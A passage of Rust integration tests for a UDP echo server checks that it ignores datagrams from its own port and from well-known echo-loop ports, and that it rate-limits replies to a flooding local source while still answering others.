    let (server, port) = skiff_server("udp-server", &[]);
    let to = format!("127.0.0.1:{port}");
    // The server's own port on another address: a second echo server (a
    // forged datagram between the two would bounce forever), or the server
    // itself with a forged source address.
    let twin = UdpSocket::bind(format!("127.0.0.2:{port}")).unwrap();
    twin.send_to(b"loop?", &to).unwrap();
    assert_unanswered(&twin, "a datagram from the server's own port");
    // Well-known echo-loop ports (binding them needs root; the decision
    // itself is unit-tested in skiff-classic's udp_guard).
    let mut checked = 0;
    for loop_port in [7, 13, 19, 37] {
        match UdpSocket::bind(("127.0.0.3", loop_port)) {
            Ok(s) => {
                s.send_to(b"loop?", &to).unwrap();
                assert_unanswered(&s, &format!("a datagram from port {loop_port}"));
                checked += 1;
            }
            Err(e) => eprintln!("cannot bind port {loop_port} ({e}): not checked end to end"),
        }
    }
    eprintln!("{checked} loop ports checked end to end");
    // Everybody else is still answered.
    let c = UdpSocket::bind("127.0.0.1:0").unwrap();
    c.set_read_timeout(Some(PATIENCE)).unwrap();
    c.send_to(b"fine", &to).unwrap();
    let mut buf = [0u8; 16];
    let n = c.recv(&mut buf).unwrap();
    assert_eq!(&buf[..n], b"FINE");
    assert!(!server.stderr().contains("panicked"));
}

#[test]
fn udp_server_limits_replies_per_source() {
    let (_server, port) = skiff_server("udp-server", &["--max-replies-per-sec", "5"]);
    let to = format!("127.0.0.1:{port}");
    let flood = UdpSocket::bind("127.0.0.1:0").unwrap();
    flood.connect(&to).unwrap();
    let started = Instant::now();
    for i in 0..200 {
        flood.send(format!("m{i}").as_bytes()).unwrap();
    }
    flood
        .set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let mut answered = 0u32;
    let mut buf = [0u8; 64];
    while flood.recv(&mut buf).is_ok() {
        answered += 1;
        assert!(started.elapsed() < PATIENCE, "answers never stop");
    }
    // A burst of 10, then 5 per second.
    let allowed = 10.0 + 5.0 * started.elapsed().as_secs_f64() + 1.0;
    assert!(answered >= 10, "only {answered} answers");
    assert!(
        f64::from(answered) <= allowed,
        "{answered} answers to 200 datagrams (allowed {allowed:.0})"
    );
    // Another source is answered meanwhile.
    let other = UdpSocket::bind("127.0.0.2:0").unwrap();
    other.set_read_timeout(Some(PATIENCE)).unwrap();
    other.send_to(b"me too", &to).unwrap();
    let n = other.recv(&mut buf).unwrap();
    assert_eq!(&buf[..n], b"ME TOO");
}
